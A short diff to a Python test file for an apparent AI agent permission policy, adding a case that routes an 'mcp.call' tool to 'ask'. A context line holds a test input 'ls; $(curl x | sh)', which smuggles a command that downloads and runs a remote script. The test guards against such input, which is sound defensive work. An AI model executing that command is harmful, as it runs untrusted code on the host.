@@ -42,6 +42,7 @@ def test_defaults_are_valid() -> None:
         ("process.exec", {"command": "ls; $(curl x | sh)"}, "ask"),
         ("network.fetch", {"tool_input": {"url": "https://example.com/"}}, "ask"),
         ("session.spawn", {"tool_name": "delegate"}, "ask"),
+        ("mcp.call", {"tool_name": "mcp_files_read"}, "ask"),
         ("tool.todo", {"tool_name": "todo"}, "allow"),
         ("tool.load_skill", {"tool_name": "load_skill"}, "allow"),
         ("tool.launch", {"tool_name": "launch", "tool_input": {"path": "README.md"}}, "deny"),
